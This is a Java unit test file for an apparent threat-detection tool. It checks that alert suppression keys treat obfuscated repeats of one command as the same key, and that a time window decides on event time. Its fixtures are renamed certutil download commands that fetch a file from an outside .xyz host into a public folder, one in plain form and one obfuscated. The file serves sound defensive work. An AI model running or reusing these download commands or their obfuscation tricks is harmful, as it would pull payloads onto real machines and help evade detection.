package dev.bazahunt.tuning;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.bazahunt.rules.RuleIds;
import java.time.Duration;
import org.junit.jupiter.api.Test;

/** Suppression keys treat obfuscated repeats as one command; the window decides on event time alone. */
class SuppressionTest {

    private static final String DEVICE = "b2c4e6a8f0123456789abcdef0123456789abcde";
    private static final long T0 = 1_626_789_778_103L;

    @Test
    void obfuscatedRepeatsOfOneCommandShareAKey() {
        SuppressionKey plain = SuppressionKey.of(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, DEVICE,
                "x8k2.exe -urlcache -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll");
        SuppressionKey obfuscated = SuppressionKey.of(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, DEVICE,
                "X8K2.EXE  \u2013URL\"CACHE\" /f  HTTPS://PSHE0PXE339.XYZ/XE1T23YM0S.PHP \"C:\\USERS\\PUBLIC\\X8K2\\TMP1834.DLL\"");

        assertThat(obfuscated).isEqualTo(plain).hasSameHashCodeAs(plain);
        assertThat(obfuscated.toString()).isEqualTo(plain.toString());
    }

    @Test
    void anotherUrlDeviceOrRuleIsAnotherKey() {
        String line = "x8k2.exe -urlcache -f https://pshe0pxe339.xyz/xe1t23ym0s.php out.dll";
        SuppressionKey key = SuppressionKey.of(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, DEVICE, line);

        assertThat(SuppressionKey.of(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, DEVICE, line.replace("xe1t23ym0s", "q7")))
                .isNotEqualTo(key);
        assertThat(SuppressionKey.of(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, "0d9e8f7a", line)).isNotEqualTo(key);
        assertThat(SuppressionKey.of(RuleIds.CERTUTIL_DOWNLOAD, DEVICE, line)).isNotEqualTo(key);
    }

    @Test
    void firstAlertIsEmitted() {
        SuppressionWindow window = new SuppressionWindow(Duration.ofHours(1));
        assertThat(window.decide(null, T0)).isEqualTo(new SuppressionWindow.Verdict(true, T0));
    }

    @Test
    void repeatsInsideTheWindowAreSuppressedAndTheBoundaryEmits() {
        SuppressionWindow window = new SuppressionWindow(Duration.ofHours(1));
        long hour = Duration.ofHours(1).toMillis();

        assertThat(window.decide(T0, T0 + hour - 1)).isEqualTo(new SuppressionWindow.Verdict(false, T0));
        assertThat(window.decide(T0, T0 + hour)).isEqualTo(new SuppressionWindow.Verdict(true, T0 + hour));
    }

    @Test
    void lateEventsAreJudgedByTheirEventTimeAndNeverMoveTheLastAlertBack() {
        SuppressionWindow window = new SuppressionWindow(Duration.ofMinutes(10));
        long tenMinutes = Duration.ofMinutes(10).toMillis();

        assertThat(window.decide(T0, T0 - 1_000)).isEqualTo(new SuppressionWindow.Verdict(false, T0));
        assertThat(window.decide(T0, T0 - tenMinutes)).isEqualTo(new SuppressionWindow.Verdict(true, T0));
    }

    @Test
    void theWindowMustBePositive() {
        assertThatThrownBy(() -> new SuppressionWindow(Duration.ZERO)).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new SuppressionWindow(null)).isInstanceOf(IllegalArgumentException.class);
    }
}
